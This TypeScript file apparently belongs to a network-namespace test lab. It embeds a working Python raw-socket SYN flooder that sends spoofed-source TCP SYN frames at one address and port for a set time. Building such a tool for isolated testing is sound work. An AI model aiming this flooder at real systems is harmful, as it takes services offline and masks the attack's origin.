// A Linux raw-socket SYN flooder (hping3 -S --flood --rand-source is not packaged here): python3
// with an AF_PACKET socket sends TCP SYNs from random sources in a /24 and random ports to one
// address and port, as fast as it can for a fixed time, then prints "<frames sent> <seconds>".
import type { NetnsLab } from "./netns.ts";

const SENDER = String.raw`
import socket, struct, sys, time, random
ifname, dst_mac, src_mac, net24, dst_ip, dport, seconds = sys.argv[1:8]
dport = int(dport); seconds = float(seconds)
def csum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff); s += s >> 16
    return (~s) & 0xffff
rnd = random.Random(7)
frames = []
for i in range(4096):
    src_ip = "%s.%d" % (net24, rnd.randint(10, 250))
    sport = rnd.randint(1024, 65535)
    seq = rnd.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    frames.append(bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00" + ip + tcp)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifname, 0))
sent = 0
start = time.time(); end = start + seconds
while time.time() < end:
    for f in frames:
        try:
            s.send(f); sent += 1
        except OSError:
            pass
print(sent, time.time() - start, flush=True)
`;

/** SYN-floods `dstIp:dport` (at `dstMac`) from `ifname` in `ns` for `seconds`. */
export function synFlood(
  lab: NetnsLab,
  ns: string,
  ifname: string,
  to: { dstMac: string; srcMac: string; net24: string; dstIp: string; dport: number },
  seconds: number,
): Promise<{ sent: number; seconds: number }> {
  const child = lab.background(ns, "python3", [
    "-c",
    SENDER,
    ifname,
    to.dstMac,
    to.srcMac,
    to.net24,
    to.dstIp,
    String(to.dport),
    String(seconds),
  ]);
  let out = "";
  let err = "";
  child.stdout?.on("data", (d: Buffer) => (out += d.toString()));
  child.stderr?.on("data", (d: Buffer) => (err += d.toString()));
  return new Promise((resolve, reject) => {
    child.on("close", () => {
      const [sent, secs] = out.trim().split(/\s+/).map(Number);
      if (!(sent > 0 && secs > 0)) reject(new Error(`SYN flood sender failed: ${out}${err}`));
      else resolve({ sent, seconds: secs });
    });
  });
}
